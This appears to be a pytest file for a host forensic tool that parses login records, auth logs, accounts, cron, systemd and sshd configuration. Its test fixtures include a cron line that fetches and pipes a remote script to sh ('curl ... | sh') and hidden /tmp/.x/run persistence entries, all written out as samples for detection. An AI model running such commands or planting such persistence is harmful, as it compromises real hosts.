"""Parsers of the security checks on recorded and literal data, and on hostile input
(truncated, garbage, huge, non-UTF-8): typed errors or counted-and-skipped, never a
traceback."""

import hashlib
import time
from pathlib import Path

import pytest

from hostmedic.analysis.logins import AuthEvent, LoginTally
from hostmedic.collectors.packages import parse_diversions, parse_md5sums, parse_rpm_verify
from hostmedic.collectors.security.accounts import (
    mask_password,
    parse_authorized_keys,
    parse_passwd,
    parse_shadow,
    parse_shells,
    parse_uid_min,
    password_state,
)
from hostmedic.collectors.security.authlog import parse_auth_lines, parse_timestamp
from hostmedic.collectors.security.commands import active_lines, command_program
from hostmedic.collectors.security.cron import parse_crontab
from hostmedic.collectors.security.processes import parse_mounted_pids
from hostmedic.collectors.security.sshd import parse_ports, parse_sshd_config
from hostmedic.collectors.security.systemd import exec_command, parse_unit
from hostmedic.collectors.security.utmp import RECORD_BYTES, parse_utmp

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "security"
NOV_2026 = time.strptime("2026-11-23", "%Y-%m-%d")


# --- wtmp / btmp ------------------------------------------------------------------------


def test_utmp_records_written_by_utmpdump():
    records, skipped = parse_utmp((FIXTURES / "wtmp.bin").read_bytes())
    assert skipped == 0
    assert [(r.kind, r.user, r.host, r.line) for r in records][:4] == [
        (2, "reboot", "6.1.0-28-amd64", "~"),
        (7, "alice", "114.215.114.6", "pts/0"),
        (8, "", "", "pts/0"),
        (7, "root", "1.2.3.4", "pts/1"),
    ]
    assert records[1].time == 1790845200.0  # 2026-10-01T09:00:00Z
    assert records[6].host == "2001:db8::7" and records[6].index == 7


def test_btmp_failures_keep_their_index():
    records, _ = parse_utmp((FIXTURES / "btmp.bin").read_bytes(), first_index=101)
    assert len(records) == 13 and records[0].index == 101
    assert {r.kind for r in records} == {6}
    assert records[-1].user == "oracle" and records[-1].host == "198.51.100.20"


def test_utmp_truncated_and_garbage_are_counted():
    data = (FIXTURES / "wtmp.bin").read_bytes()
    records, skipped = parse_utmp(data[: RECORD_BYTES * 2 + 100])
    assert len(records) == 2 and skipped == 1
    garbage = b"\x7f\x7f" + bytes(RECORD_BYTES - 2)  # type 32639
    records, skipped = parse_utmp(garbage + b"\xff" * RECORD_BYTES)
    assert records == [] and skipped == 2


def test_utmp_host_falls_back_to_the_address_field():
    data = bytearray((FIXTURES / "wtmp.bin").read_bytes()[RECORD_BYTES : 2 * RECORD_BYTES])
    data[76 : 76 + 256] = bytes(256)  # wipe ut_host: ut_addr_v6 still says 114.215.114.6
    (record,), _ = parse_utmp(bytes(data))
    assert record.host == "114.215.114.6"


# --- auth.log ---------------------------------------------------------------------------


def _events(text: str, reference=NOV_2026):
    lines = enumerate(text.splitlines(), 1)
    return list(parse_auth_lines(lines, "/var/log/auth.log", reference))


def test_auth_log_fixture():
    text = (FIXTURES / "auth.log").read_text("utf-8", "replace")
    items = _events(text)
    events = [e for e in items if isinstance(e, AuthEvent)]
    assert items.count(None) == 1  # the one non-syslog line
    failures = [e for e in events if not e.success and e.host == "203.0.113.50"]
    assert sum(e.repeats for e in failures) == 8 + 5  # the repeated line counts 5
    assert {e.user for e in failures} == {"root", "admin"}
    accepted = [e for e in events if e.success]
    assert [(e.user, e.host, e.method) for e in accepted][:2] == [
        ("root", "203.0.113.50", "password"),
        ("deploy", "2001:db8::5", "publickey"),
    ]
    invalid = [e for e in events if e.method == "invalid-user"]
    assert sorted(e.user for e in invalid) == ["test0", "test1", "test2"]  # oracle: Failed line
    assert next(e for e in events if e.user == "oracle").method == "password"
    root_break_in = accepted[0]
    assert root_break_in.position == 14 and root_break_in.source == "/var/log/auth.log"


def test_auth_timestamps():
    ref = time.strptime("2026-02-10", "%Y-%m-%d")
    dec = parse_timestamp("Dec 31 23:59:59", ref)
    assert time.localtime(dec).tm_year == 2025  # a month after the file's: last year
    assert time.localtime(parse_timestamp("Feb  9 01:02:03", ref)).tm_year == 2026
    assert parse_timestamp("2026-11-22T08:15:30.123456+00:00", ref) == 1795335330.123456
    assert parse_timestamp("2026-11-22T08:15:30+0000", ref) == 1795335330.0
    assert parse_timestamp("Foo 99 99:99:99", ref) is None
    assert parse_timestamp("2026-13-45T99:00:00", ref) is None


def test_auth_hostile_lines():
    text = "\x00\x01garbage\n" + "Nov 20 03:11:05 web sshd[1]: Failed password for " + "x" * 100_000
    items = _events(text)
    assert items.count(None) == 1 and all(not isinstance(i, AuthEvent) for i in items)


def test_tally_prefers_logs_inside_their_span_and_bounds_memory():
    tally = LoginTally()
    for t in (100.0, 200.0):
        tally.cover(t)
    inside = AuthEvent(150.0, "root", "203.0.113.1", False, "btmp", "/var/log/btmp", 1, binary=True)
    assert tally.covered(inside.time)
    for i in range(30):
        tally.add(
            AuthEvent(float(i), "root", f"198.51.100.{i}", False, "password", "a", i),
            lambda ip: None,
        )
    facts = tally.facts("CN", 0.0, lambda ip: "AU" if ip.endswith(".1") else None)
    root = facts.failures_by_user[0]
    assert root.distinct_others == 30 and len(root.others) == 5
    assert root.sources == ("a lines 0-29",)
    assert facts.failures_by_host[1].country == "AU"


# --- accounts ---------------------------------------------------------------------------


def test_passwd_shadow_and_masking():
    entries, skipped = parse_passwd(
        "root:x:0:0:root:/root:/bin/bash\nbad line\n#c\nx:y:z:1:2:3:4\n"
    )
    assert [f[0] for f, _ in entries] == ["root"] and skipped == 2
    assert entries[0][1].line_no == 1
    shadow = parse_shadow("root:$6$a$b:20000:0:99999:7:::\nbob::19000::::::\nlocked:!$6$x:1\nx\n")
    assert shadow == {"root": ("usable", 20000), "bob": ("empty", 19000), "locked": ("locked", 1)}
    assert password_state("*") == "locked" and password_state("!!") == "locked"
    assert mask_password("$6$salt$hash") == "<hash>" and mask_password("") == ""
    assert parse_shells("# c\n/bin/bash\n\n/usr/bin/tmux\n") == {"/bin/bash", "/usr/bin/tmux"}
    assert parse_uid_min("UID_MIN\t500\n") == 500 and parse_uid_min("garbage") == 1000


def test_authorized_keys_normal_and_written_by_redis():
    normal = parse_authorized_keys(
        b'from="10.0.0.0/8" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOv1 alice@x\n# c\n', "/k", "a", 0
    )
    assert len(normal.keys) == 1 and normal.redis_marker is None and normal.binary_lines == 0
    assert (
        normal.keys[0].text.startswith("ssh-ed25519 AAAAC3NzaC1l…")
        and "alice@x" in normal.keys[0].text
    )
    dump = parse_authorized_keys(
        (FIXTURES / "redis_authorized_keys.bin").read_bytes(),
        "/root/.ssh/authorized_keys",
        "root",
        0,
    )
    assert dump.redis_marker is not None and dump.redis_marker.line_no == 1
    assert dump.redis_marker.text.startswith("REDIS0010")
    assert dump.binary_lines >= 2 and len(dump.keys) == 1 and "root@evil" in dump.keys[0].text


# --- cron, commands, systemd ------------------------------------------------------------


def test_crontab_system_and_user_formats():
    text = (
        "SHELL=/bin/sh\nPATH = /usr/bin\n# comment\n"
        "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
        "@reboot root /usr/local/bin/start.sh --now\n"
        "*/5 * * * * www-data curl -fsSL http://203.0.113.7/x.sh | sh\n"
        "1 2 3\n"  # malformed
        "bad-field * * * * root x\n"
    )
    entries, skipped = parse_crontab(text, "/etc/crontab", system=True)
    assert [(e.where.line_no, e.user, e.program) for e in entries] == [
        (4, "root", None),
        (5, "root", "/usr/local/bin/start.sh"),
        (6, "www-data", None),
    ]
    assert skipped == 2 and all(e.entry_point and e.kind == "cron" for e in entries)
    user_entries, _ = parse_crontab(
        "@reboot /tmp/.x/run\n0 * * * * /bin/true\n", "/spool/alice", system=False, user="alice"
    )
    assert [(e.user, e.program) for e in user_entries] == [
        ("alice", "/tmp/.x/run"),
        ("alice", "/bin/true"),
    ]


@pytest.mark.parametrize(
    ("command", "program"),
    [
        ("nohup /tmp/.x/run >/dev/null 2>&1 &", "/tmp/.x/run"),
        ("FOO=1 BAR=2 /usr/bin/env python3 x.py", "/usr/bin/env"),
        ("sh /etc/init.d/x start", "/etc/init.d/x"),
        ("bash -c 'curl x|sh'", None),
        ("cd / && run-parts /etc/cron.daily", None),
        ('unbalanced "quote /opt/x', None),
        ("/usr/bin/bsd-port/getty;", "/usr/bin/bsd-port/getty"),
        ("", None),
    ],
)
def test_command_program(command, program):
    assert command_program(command) == program


def test_active_lines_bound_and_skip_comments():
    lines = list(active_lines("#!/bin/sh\n\n  # c\nexit 0\n" + "x\n" * 5000, "/f"))
    assert lines[0].text == "exit 0" and lines[0].line_no == 4 and len(lines) == 2000


def test_unit_files_and_drop_ins():
    text = (FIXTURES / "ssh.service").read_text()
    execs, user = parse_unit(text, "/lib/systemd/system/ssh.service")
    assert [k for k, _ in execs] == ["execstartpre", "execstart"] and user is None
    assert exec_command(execs[1][1].text.partition("=")[2]) == "/usr/sbin/sshd -D $SSHD_OPTS"
    drop_in = "[Service]\nExecStart=\nExecStart=-/tmp/.x/run \\\n  --daemon\nUser=nobody\n"
    execs, user = parse_unit(drop_in, "/etc/systemd/system/ssh.service.d/x.conf", execs)
    assert [(k, line.line_no) for k, line in execs] == [("execstartpre", 9), ("execstart", 3)]
    assert execs[1][1].text == "ExecStart=-/tmp/.x/run  --daemon" and user == "nobody"
    assert exec_command("-@:/bin/x a") == "/bin/x a"
    assert parse_unit("[Unit]\nExecStart=/x\n\x00\xff garbage", "/u") == ([], None)


# --- sshd_config ------------------------------------------------------------------------


def _loader(files):
    import fnmatch

    def load(pattern):
        return [(p, t) for p, t in sorted(files.items()) if fnmatch.fnmatch(p, pattern)]

    return load


def test_sshd_debian_default():
    text = (FIXTURES / "sshd_config.debian12").read_text()
    settings = parse_sshd_config(text, "/etc/ssh/sshd_config", _loader({}))
    values = {s.keyword: (s.value, s.where.line_no if s.where else None) for s in settings}
    assert values["kbdinteractiveauthentication"] == ("no", 62)
    assert values["usepam"] == ("yes", 85)
    assert values["passwordauthentication"] == ("yes", None)  # commented out: the default
    assert values["permitrootlogin"] == ("prohibit-password", None)
    assert parse_ports(settings) == (22,)


def test_sshd_include_match_first_value_wins():
    files = {
        "/etc/ssh/sshd_config.d/10-a.conf": "PermitRootLogin yes\nPort 2222\n",
        "/etc/ssh/sshd_config.d/20-b.conf": "PermitRootLogin no\nMatch User git\n  PasswordAuthentication yes\n",
        "/etc/ssh/extra.conf": "PermitEmptyPasswords yes\n",
    }
    main = (
        "Include sshd_config.d/*.conf\nPort 22\nPasswordAuthentication=no\n"
        "ChallengeResponseAuthentication yes\nListenAddress 0.0.0.0:2200\n"
        'Match Address 203.0.113.0/24\n  PermitRootLogin "yes"\n  Include extra.conf\nMatch all\nUsePAM yes\n'
    )
    settings = parse_sshd_config(main, "/etc/ssh/sshd_config", _loader(files))
    globals_ = {s.keyword: s.value for s in settings if s.match is None}
    assert globals_["permitrootlogin"] == "yes"  # first value, from the include
    assert globals_["passwordauthentication"] == "no"
    assert globals_["kbdinteractiveauthentication"] == "yes"  # the old name is an alias
    assert globals_["usepam"] == "yes"  # after Match all
    overrides = [(s.match, s.keyword, s.value) for s in settings if s.match]
    assert ("User git", "passwordauthentication", "yes") in overrides  # Match ends with its file
    assert ("Address 203.0.113.0/24", "permitrootlogin", "yes") in overrides
    assert ("Address 203.0.113.0/24", "permitemptypasswords", "yes") in overrides
    assert parse_ports(settings) == (22, 2200, 2222)


def test_sshd_include_loop_and_garbage_terminate():
    files = {"/etc/ssh/loop.conf": "Include loop.conf\nPort 1\n"}
    settings = parse_sshd_config("Include loop.conf\n\x00\xffjunk\nPort\n", "/c", _loader(files))
    assert parse_ports(settings) == (1,)


# --- packages ---------------------------------------------------------------------------


def test_md5sums_diversions_and_rpm_verify():
    sums = parse_md5sums((FIXTURES / "procps.md5sums").read_text())
    assert sums["/bin/ps"] == "08a07e7517a09d2f40e2618eff4adf22"
    assert parse_md5sums("zz  bin/x\n" + "a" * 32 + "  usr/bin/y\n\xff") == {"/usr/bin/y": "a" * 32}
    diverted = parse_diversions((FIXTURES / "diversions").read_text())
    assert "/usr/bin/pg_config" in diverted and "/usr/bin/pg_config.libpq-dev" not in diverted
    assert parse_rpm_verify(
        "S.5....T.    /usr/bin/ps\n.M.......  c /etc/x\nmissing     /usr/bin/ss\n"
    ) == {
        "/usr/bin/ps": True,
        "/etc/x": False,
        "/usr/bin/ss": True,
    }
    assert hashlib.md5(b"").hexdigest() not in parse_md5sums("")


def test_mounted_pids_from_mountinfo():
    mountinfo = (
        "22 1 0:21 / /proc rw,nosuid - proc proc rw\n"
        "80 22 8:1 /tmp/empty /proc/4242 rw,relatime - ext4 /dev/sda1 rw\n"
        "81 22 0:5 / /proc/sys/fs/binfmt_misc rw - binfmt_misc binfmt_misc rw\n"
        "82 22 8:1 /x /proc/77/cmdline rw - ext4 /dev/sda1 rw\nshort\n"
    )
    assert parse_mounted_pids(mountinfo) == {4242, 77}


def test_rotated_gzip_truncated_gzip_and_the_tail_of_a_big_log(tmp_path, monkeypatch):
    import gzip

    from hostmedic.collectors import rootfs
    from hostmedic.collectors.security import authlog

    log = tmp_path / "var" / "log"
    log.mkdir(parents=True)
    line = "Nov 20 03:11:05 web sshd[7]: Failed password for root from 203.0.113.50 port 1 ssh2\n"
    (log / "auth.log.2.gz").write_bytes(gzip.compress((line * 10).encode()))
    (log / "auth.log.3.gz").write_bytes(gzip.compress((line * 10).encode())[:-30])  # truncated
    (log / "auth.log").write_text("x\n" * 1000 + line * 3)
    monkeypatch.setattr(authlog, "TAIL_BYTES", 300)  # the plain file is read from its end
    fs = rootfs.RootFS(str(tmp_path))
    assert sorted(authlog.log_files(fs)) == [
        f"/var/log/auth.log{s}" for s in ("", ".2.gz", ".3.gz")
    ]
    gz = [
        e for e in authlog.read_log_file(fs, "/var/log/auth.log.2.gz") if isinstance(e, AuthEvent)
    ]
    assert [e.position for e in gz] == list(range(1, 11))
    broken = [
        e for e in authlog.read_log_file(fs, "/var/log/auth.log.3.gz") if isinstance(e, AuthEvent)
    ]
    assert len(broken) < 10  # what could be read, no exception
    plain = [e for e in authlog.read_log_file(fs, "/var/log/auth.log") if isinstance(e, AuthEvent)]
    assert [e.position for e in plain] == [1001, 1002, 1003]  # true line numbers
